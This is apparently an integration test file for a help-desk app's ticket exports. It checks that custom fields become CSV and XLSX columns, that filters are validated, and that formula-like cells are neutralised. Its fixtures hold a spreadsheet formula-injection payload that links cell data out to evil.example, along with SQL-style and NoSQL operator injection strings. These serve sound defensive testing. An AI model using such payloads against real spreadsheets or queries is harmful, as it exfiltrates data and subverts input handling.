/**
 * Custom fields in ticket exports: a column per field staff see (`custom_fields.<key>`, an export is
 * managers'), in the default columns, asked for by name, neutralised like every other text cell.
 */
import Papa from "papaparse";
import * as XLSX from "xlsx";
import { beforeAll, describe, expect, it } from "vitest";
import { callerContext } from "../../src/contexts";
import type { Actor } from "../../src/domain/permissions";
import { createExport } from "../../src/features/exports/exports.service";
import { api, BASE, makeStaff } from "../helpers";
import { drainJobs, jobsEnv } from "../reports/support";
import { defineField, uniqueKey } from "../fields/support";
import { openTicket } from "../tickets/fixtures";
import { download, finished, wholeList } from "./support";

let s: Awaited<ReturnType<typeof makeStaff>>;
const category = `cf-${crypto.randomUUID().slice(0, 8)}`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
let text: { key: string };
let hidden: { key: string };
let count: { key: string };
let labels: { key: string };
let urgent: { key: string };
const col = (f: { key: string }) => `custom_fields.${f.key}`;

beforeAll(async () => {
  s = await makeStaff();
  const options = [
    { value: "alpha", label: "Alpha" },
    { value: "beta", label: "Beta" },
  ];
  text = await defineField(s.admin, { key: uniqueKey("serial"), label: "Serial", type: "text", customer_visible: true });
  // Not customer_visible: staff see it, so the (managers') export has it.
  hidden = await defineField(s.admin, { key: uniqueKey("internal_code"), label: "Internal code", type: "text" });
  count = await defineField(s.admin, { key: uniqueKey("units"), label: "Units", type: "integer" });
  labels = await defineField(s.admin, { key: uniqueKey("labels"), label: "Labels", type: "multiselect", options });
  urgent = await defineField(s.admin, { key: uniqueKey("urgent"), label: "Urgent", type: "checkbox" });
  await openTicket(s.agent, { subject: "with values", category, custom_fields: { [text.key]: FORMULA, [hidden.key]: "@SUM(1,2)", [count.key]: 7, [labels.key]: ["alpha", "beta"], [urgent.key]: true } });
  await openTicket(s.agent, { subject: "without values", category });
  await openTicket(s.agent, { subject: "beta only", category, custom_fields: { [labels.key]: ["beta"], [count.key]: 7 } });
}, 60_000);

async function exported(format: "csv" | "xlsx", columns?: string[]) {
  const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format, filters: { category, sort: "created_at" }, ...(columns ? { columns } : {}) } });
  expect(res.status, JSON.stringify(res.body)).toBe(202);
  const job = await finished(s.manager, res.body.id);
  expect(job.status).toBe("done");
  return (await download(s.manager, job.id)).bytes;
}

describe("custom fields in ticket exports", () => {
  it("CSV: every field is a column by default, values as staff see them, formula-looking text neutralised", async () => {
    const csv = new TextDecoder().decode(await exported("csv"));
    const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(expect.arrayContaining([col(text), col(hidden), col(count), col(labels), col(urgent)]));
    const [withValues, without] = parsed.data.filter((r) => r.subject !== "beta only");
    expect(withValues).toMatchObject({ subject: "with values", [col(text)]: `'${FORMULA}`, [col(hidden)]: "'@SUM(1,2)", [col(count)]: "7", [col(labels)]: "alpha, beta", [col(urgent)]: "true" });
    expect(without).toMatchObject({ subject: "without values", [col(text)]: "", [col(count)]: "" });
    // No cell of the file starts a formula.
    for (const row of parsed.data) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@]/);
  });

  it("XLSX: fields asked for by name are typed cells, text never a formula; an unknown field is a 400", async () => {
    const bytes = await exported("xlsx", ["subject", col(text), col(count), col(urgent)]);
    const sheet = XLSX.read(bytes, { type: "array", cellFormula: true }).Sheets.Tickets!;
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { defval: null });
    expect(rows[0]).toEqual({ subject: "with values", [col(text)]: FORMULA, [col(count)]: 7, [col(urgent)]: true });
    expect(rows[1]).toEqual({ subject: "without values", [col(text)]: null, [col(count)]: null, [col(urgent)]: null });
    expect(rows).toHaveLength(3);
    for (const cell of Object.values(sheet)) if (cell && typeof cell === "object" && "t" in cell) expect((cell as { f?: unknown }).f).toBeUndefined();
    const bad = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "csv", columns: ["subject", "custom_fields.no_such_field"] } });
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.errors)).toEqual(["columns"]);
  });

  it("a list filtered by custom fields exports exactly the tickets the list shows", async () => {
    const filters = { category, [`cf.${labels.key}`]: "alpha", [`cf.${count.key}`]: "7", sort: "created_at" };
    const listed = await wholeList(s.manager, `&${new URLSearchParams(filters)}`);
    expect(listed.map((t) => t.subject)).toEqual(["with values"]);
    const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "csv", filters } });
    expect(res.status, JSON.stringify(res.body)).toBe(202);
    const job = await finished(s.manager, res.body.id);
    expect(job).toMatchObject({ status: "done", progress: { rows_done: 1, rows_estimated: 1 } });
    const csv = new TextDecoder().decode((await download(s.manager, job.id)).bytes);
    const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true });
    expect(parsed.data.map((r) => r.id)).toEqual(listed.map((t) => t.id));
    // A value JSON carries as a number or boolean is read as the list reads the query string.
    const typed = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "csv", filters: { category, [`cf.${count.key}`]: 7 } } });
    expect(typed.status).toBe(202);
    expect((await finished(s.manager, typed.body.id)).progress.rows_done).toBe(2);
  });

  it("a field filter the list would refuse is a 400 naming it, and no export is made", async () => {
    const before = (await api("GET", "/api/v1/exports", { token: s.manager.token })).body.data.length;
    for (const [name, value, message] of [
      [`cf.${labels.key}`, "gamma", "must be a list of: alpha, beta"],
      [`cf.${count.key}`, "7 OR 1=1", "must be an integer"],
      ["cf.no_such_field", "1", "no such field"],
      [`cf.${text.key}`, "x", "a text field cannot be filtered by"],
      [`cf.${count.key}`, { $gt: 1 }, "must be a string"],
    ] as const) {
      const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "csv", filters: { [name]: value } } });
      expect(res.status, name).toBe(400);
      expect(res.body.errors).toEqual({ [`filters.${name}`]: [message] });
    }
    expect((await api("GET", "/api/v1/exports", { token: s.manager.token })).body.data).toHaveLength(before);
  });

  it("an export whose field filter was deleted before its chunk ran fails saying why, and writes no file", async () => {
    const gone = await defineField(s.admin, { key: uniqueKey("gone"), label: "Gone", type: "integer" });
    const jobs = jobsEnv();
    const actor: Actor = { id: s.manager.id, name: s.manager.name, email: s.manager.email, role: s.manager.role };
    const ctx = callerContext(jobs.env, actor, { ip: null, userAgent: "test" }, { now: new Date() });
    const job = await createExport(ctx, { kind: "tickets", format: "csv", filters: { category, [`cf.${gone.key}`]: "1" } }, BASE);
    expect((await api("DELETE", `/api/v1/ticket-fields/${gone.id}`, { token: s.admin.token })).status).toBe(204);
    await drainJobs(jobs);
    const failed = await finished(s.manager, job.id);
    expect(failed).toMatchObject({ status: "failed", download_url: null });
    expect(failed.error).toContain(`its filters are no longer valid: filters.cf.${gone.key} no such field`);
  });
});
